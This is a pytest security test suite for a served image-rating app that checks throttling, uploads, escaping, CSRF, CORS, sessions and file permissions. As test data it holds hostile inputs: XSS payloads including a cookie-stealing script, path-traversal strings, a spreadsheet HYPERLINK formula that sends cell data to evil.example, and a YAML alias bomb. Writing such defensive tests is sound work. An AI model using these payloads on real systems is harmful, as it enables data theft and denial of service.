"""Security of the served rating app, attacked over HTTP like a browser or a script would (issue 13, holes 1-9).

One campaign is served by the real CLI (`capeval annotate serve`) in a subprocess for the whole module; the last test
stops it with SIGTERM and checks that its temporary files are gone. CLI refusals run `capeval.cli.main` in-process.
"""

from __future__ import annotations

import io
import signal
import sqlite3
import stat
import sys
import time
from pathlib import Path

import pytest

httpx = pytest.importorskip("httpx")
pytest.importorskip("gradio")

from annotation.app import SCREEN_FIELDS  # noqa: E402
from annotation.example import free_port, make_campaign, serve_in_subprocess, stop_process  # noqa: E402

HOSTILE_NAME = "<img src=x onerror=alert(1)> & study"
ANNOTATORS = ("ann1", "ann2", "victim", "flooded")
TOKEN = SCREEN_FIELDS.index("token")


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    import yaml

    root = tmp_path_factory.mktemp("secure-campaign")
    ex = make_campaign(root, n_images=4, annotators=ANNOTATORS, raters_per_item=1, image_size=(64, 48))
    doc = yaml.safe_load(ex.path.read_text())
    doc["name"] = HOSTILE_NAME
    ex.path.write_text(yaml.safe_dump(doc, sort_keys=False))
    images = root / "images"
    (images / "evil.html").write_text("<script>alert(document.cookie)</script>")
    (images / "evil.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    (images / "notes.txt").write_text("secret")
    port = free_port()
    url = f"http://127.0.0.1:{port}/"
    log = root / "server.log"
    proc = serve_in_subprocess(ex.path, port, log)
    t0 = time.time()
    while True:
        assert proc.poll() is None, log.read_text()[-3000:]
        try:
            httpx.get(url, timeout=2)  # any answer: the server is up
            break
        except httpx.HTTPError:
            pass
        assert time.time() - t0 < 180, log.read_text()[-3000:]
        time.sleep(0.2)
    yield {"url": url, "ex": ex, "proc": proc, "root": root, "port": port, "log": log}
    stop_process(proc)


def login(served, user: str, password: str | None = None) -> httpx.Client:
    h = httpx.Client(base_url=served["url"], timeout=30)
    r = h.post("/login", data={"username": user, "password": password or served["ex"].passwords[user]})
    assert r.status_code == 200, r.text
    return h


def run(h: httpx.Client, api: str, data: list, session: str = "s-default") -> httpx.Response:
    return h.post(f"/gradio_api/run/{api}", json={"data": data, "session_hash": session})


# ---------------------------------------------------------------------------------------------- 1. login throttling
def test_wrong_passwords_lock_the_name_with_retry_after(served):
    h = httpx.Client(base_url=served["url"], timeout=30)
    codes = [h.post("/login", data={"username": "victim", "password": f"guess-{k}"}).status_code for k in range(5)]
    assert codes[:4] == [401] * 4 and codes[4] == 429
    r = h.post("/login", data={"username": "victim", "password": served["ex"].passwords["victim"]})
    assert r.status_code == 429 and int(r.headers["retry-after"]) > 0  # locked even with the right password
    assert "try again" in r.json()["error"]
    login(served, "ann1")  # other names are not affected


# ---------------------------------------------------------------------------------------------- 2. uploads
def test_uploads_are_refused_and_nothing_is_stored(served):
    h = login(served, "ann1")
    before = set(Path("/tmp").glob("capeval-annotate-*/**/*"))
    r = h.post("/gradio_api/upload", files={"files": ("x.bin", b"\0" * 100_000)})
    assert r.status_code == 403
    r = h.post("/gradio_api/upload?upload_id=abc", files={"files": ("x.html", b"<script>1</script>")})
    assert r.status_code == 403
    assert set(Path("/tmp").glob("capeval-annotate-*/**/*")) == before


# ---------------------------------------------------------------------------------------------- 3. file types
def test_only_images_are_served_with_nosniff(served):
    h = login(served, "ann1")
    out = run(h, "current", []).json()["data"]
    img_url = out[SCREEN_FIELDS.index("image")]["url"]
    assert img_url == f"{served['url']}image/{out[TOKEN]}"  # by opaque item id: no file path reaches the browser
    r = h.get(img_url)
    assert r.status_code == 200 and r.headers["content-type"] == "image/jpeg"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert httpx.get(img_url, timeout=30).status_code == 401  # not without a login
    assert h.get("image/0123456789ab").status_code == 404  # nor another item
    images = served["root"] / "images"
    for name in ("evil.html", "evil.svg", "notes.txt"):
        for r in (h.get(f"/gradio_api/file={images / name}"), h.get(f"/gradio_api/file=/tmp/gradio/x/{name}"),
                  h.get(f"/image/{name}"), h.get(f"/image/../images/{name}")):
            assert r.status_code == 404, (r.url, r.status_code)
            assert "alert" not in r.text and "secret" not in r.text
    assert h.get("/gradio_api/file=http://example.com/x.png").status_code == 404
    assert h.get("/gradio_api/proxy=http://127.0.0.1:1/").status_code == 404


# ---------------------------------------------------------------------------------------------- 4. escaped name
def test_campaign_name_is_escaped_on_the_login_page(served):
    r = httpx.get(served["url"] + "login", timeout=30)
    assert r.status_code == 200
    assert "<img src=x" not in r.text
    assert "&lt;img src=x onerror=alert(1)&gt; &amp; study" in r.text
    assert httpx.get(served["url"], timeout=30).headers["location"] == "login"  # / without a session: the form


# ------------------------------------------------------------------------------------------- 5. session binding, CORS
def test_a_session_hash_belongs_to_its_login(served):
    admin = login(served, "boss")
    assert run(admin, "admin_summary", [], session="admin-tab-1").status_code == 200
    spy = login(served, "ann2")
    for r in (spy.get("/gradio_api/queue/data", params={"session_hash": "admin-tab-1"}),
              run(spy, "current", [], session="admin-tab-1"),
              spy.get("/gradio_api/heartbeat/admin-tab-1"),
              spy.post("/gradio_api/queue/join", json={"data": [], "fn_index": 0, "session_hash": "admin-tab-1"})):
        assert r.status_code == 403, r.text
        assert "sys" not in r.text
    assert run(spy, "current", [], session="ann2-own").status_code == 200


def test_other_origins_can_neither_read_nor_post(served):
    h = login(served, "ann1")
    evil = "http://localhost:9999"
    r = h.get("/config", headers={"Origin": evil})
    assert r.status_code == 200 and "access-control-allow-origin" not in r.headers
    pre = h.options("/gradio_api/run/current", headers={"Origin": evil, "Access-Control-Request-Method": "POST",
                                                         "Access-Control-Request-Headers": "content-type"})
    assert "access-control-allow-origin" not in pre.headers
    r = h.post("/gradio_api/run/current", json={"data": [], "session_hash": "o1"}, headers={"Origin": evil})
    assert r.status_code == 403
    same = served["url"].rstrip("/")
    assert h.post("/gradio_api/run/current", json={"data": [], "session_hash": "o1"},
                  headers={"Origin": same}).status_code == 200


# ---------------------------------------------------------------------------------------------- 6. sessions
def test_security_headers_on_pages(served):
    h = login(served, "ann1")
    for path in ("/", "/login", "/config"):
        r = h.get(path)
        assert r.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
        assert r.headers["x-content-type-options"] == "nosniff"
    assert '"elem_id":"logout"' in h.get("/config").text  # the page has a logout button


def test_logout_is_post_with_csrf_and_ends_the_session(served):
    h = login(served, "ann1")
    assert h.get("/logout").status_code == 405  # a link or <img> cannot log anyone out
    assert h.post("/logout").status_code == 403  # no CSRF token
    assert h.post("/logout", headers={"X-CSRF-Token": "forged"}).status_code == 403
    csrf = h.get("/session").json()["csrf"]
    other = login(served, "ann1")  # a second session of the same login stays
    assert h.post("/logout", headers={"X-CSRF-Token": csrf, "Origin": "http://evil.example"}).status_code == 403
    assert h.post("/logout", headers={"X-CSRF-Token": csrf}).status_code == 200
    assert run(h, "current", []).status_code == 401
    assert run(other, "current", [], session="other").status_code == 200


def _db(served) -> sqlite3.Connection:
    return sqlite3.connect(served["root"] / "ratings.db", timeout=30)


def test_sessions_expire_when_idle_or_old(served):
    h = login(served, "ann1")
    assert run(h, "current", [], session="exp1").status_code == 200
    db = _db(served)
    db.execute("UPDATE sessions SET last_seen = last_seen - 240 * 60 - 5 WHERE username = 'ann1'")
    db.commit()
    r = run(h, "current", [], session="exp1")
    assert r.status_code == 401 and r.headers.get("x-capeval-login") == "required"
    h = login(served, "ann1")
    db.execute("UPDATE sessions SET created = created - 72 * 3600 - 5 WHERE username = 'ann1'")
    db.commit()
    db.close()
    assert run(h, "current", [], session="exp2").status_code == 401


def test_password_change_and_disabling_end_sessions(served, monkeypatch, capsys):
    from capeval.cli import main

    h = login(served, "ann2")
    assert run(h, "current", [], session="pw1").status_code == 200
    monkeypatch.setattr(sys, "stdin", io.StringIO("another-horse-2\n"))
    assert main(["annotate", "users", "reset", str(served["ex"].path), "ann2", "--password-stdin"]) == 0
    assert run(h, "current", [], session="pw1").status_code == 401
    h = login(served, "ann2", "another-horse-2")
    assert main(["annotate", "users", "disable", str(served["ex"].path), "ann2"]) == 0
    assert run(h, "current", [], session="pw2").status_code == 401
    r = httpx.post(served["url"] + "login", data={"username": "ann2", "password": "another-horse-2"}, timeout=30)
    assert r.status_code == 401
    assert main(["annotate", "users", "enable", str(served["ex"].path), "ann2"]) == 0
    login(served, "ann2", "another-horse-2")


# ---------------------------------------------------------------------------------------------- 7. CSV injection
def test_exported_csv_cannot_run_formulas(served, tmp_path):
    from capeval.cli import main

    h = login(served, "ann1")
    tok = run(h, "current", [], session="csv").json()["data"][TOKEN]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = run(h, "submit", [tok, "3", evil, ""], session="csv")
    assert r.status_code == 200
    out = tmp_path / "j.csv"
    assert main(["annotate", "export", str(served["ex"].path), "--out", str(out)]) == 0
    import pandas as pd

    df = pd.read_csv(out, keep_default_na=False)
    cell = df.loc[df["item"] == tok, "comment"].iloc[0]
    assert cell == "'" + evil
    assert not any(str(v).startswith(("=", "+", "@")) for v in df.astype(str).values.ravel())


# ---------------------------------------------------------------------------------------------- 9. 4xx, CLI errors
def test_app_refusals_are_4xx(served):
    h = login(served, "ann1")
    assert run(h, "admin_summary", [], session="r1").status_code == 403
    r = run(h, "submit", ["../../ratings.db", "3", "", ""], session="r1")
    assert 400 <= r.status_code < 500 and "malformed" in r.text
    r = run(h, "submit", ["0123456789ab", "3", "", ""], session="r1")
    assert 400 <= r.status_code < 500 and "not one of yours" in r.text
    assert httpx.post(served["url"] + "gradio_api/run/current", json={"data": [], "session_hash": "x"},
                      timeout=30).status_code == 401


def _cli_error(capsys, argv: list[str]) -> str:
    from capeval.cli import main

    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    return err


def test_cli_refusals_are_one_line(served, tmp_path, capsys, monkeypatch):
    import yaml

    ex = served["ex"]
    doc = yaml.safe_load(ex.path.read_text())

    def variant(name: str, text: str) -> str:
        p = ex.path.parent / name  # same folder, so the relative paths resolve
        p.write_text(text)
        return str(p)

    assert "rubric" in _cli_error(capsys, ["annotate", "status", variant("c1.yaml", yaml.safe_dump(
        {**doc, "rubric": ["thumb"]}))])
    assert "mysql" in _cli_error(capsys, ["annotate", "status", variant("c2.yaml", yaml.safe_dump(
        {**doc, "database": "mysql://user@localhost/db"}))])
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n"
    prev = "a"
    for n in "bcdefghij":
        bomb += f"{n}: &{n} [{', '.join(['*' + prev] * 9)}]\n"
        prev = n
    t0 = time.time()
    assert "alias" in _cli_error(capsys, ["annotate", "status", variant("c3.yaml", bomb)])
    assert time.time() - t0 < 10
    dup = ex.path.read_text() + "\nseed: 99\n"
    assert "duplicate key 'seed'" in _cli_error(capsys, ["annotate", "status", variant("c4.yaml", dup)])
    assert "in use" in _cli_error(capsys, ["annotate", "serve", str(ex.path), "--port", str(served["port"])])
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    monkeypatch.delenv("CAPEVAL_ANNOTATE_PASSWORD", raising=False)
    assert "password" in _cli_error(capsys, ["annotate", "add-user", str(ex.path), "ann1"])


# ---------------------------------------------------------------------------------------------- 8. files, shutdown
def test_database_and_wal_are_owner_only(served):
    h = login(served, "ann1")
    tok = run(h, "current", [], session="perm").json()["data"][TOKEN]
    run(h, "submit", [tok, "2", "", ""], session="perm")
    root = served["root"]
    files = [root / "ratings.db", root / "ratings.db-wal", root / "ratings.db-shm"]
    assert files[1].exists()
    for f in files:
        if f.exists():
            assert stat.S_IMODE(f.stat().st_mode) == 0o600, (f, oct(f.stat().st_mode))


def test_zz_shutdown_removes_served_copies_and_exports(served):
    admin = login(served, "boss")
    r = run(admin, "admin_export", ["csv"], session="exp")
    assert r.status_code == 200
    path = Path(r.json()["data"][0]["path"])
    assert path.is_file()
    cache = next(p for p in path.parents if p.name.startswith("capeval-annotate-"))
    proc = served["proc"]
    proc.send_signal(signal.SIGTERM)
    proc.wait(30)
    assert not cache.exists()
    assert not list(Path("/tmp").glob(f"capeval-annotate-{proc.pid}-*"))
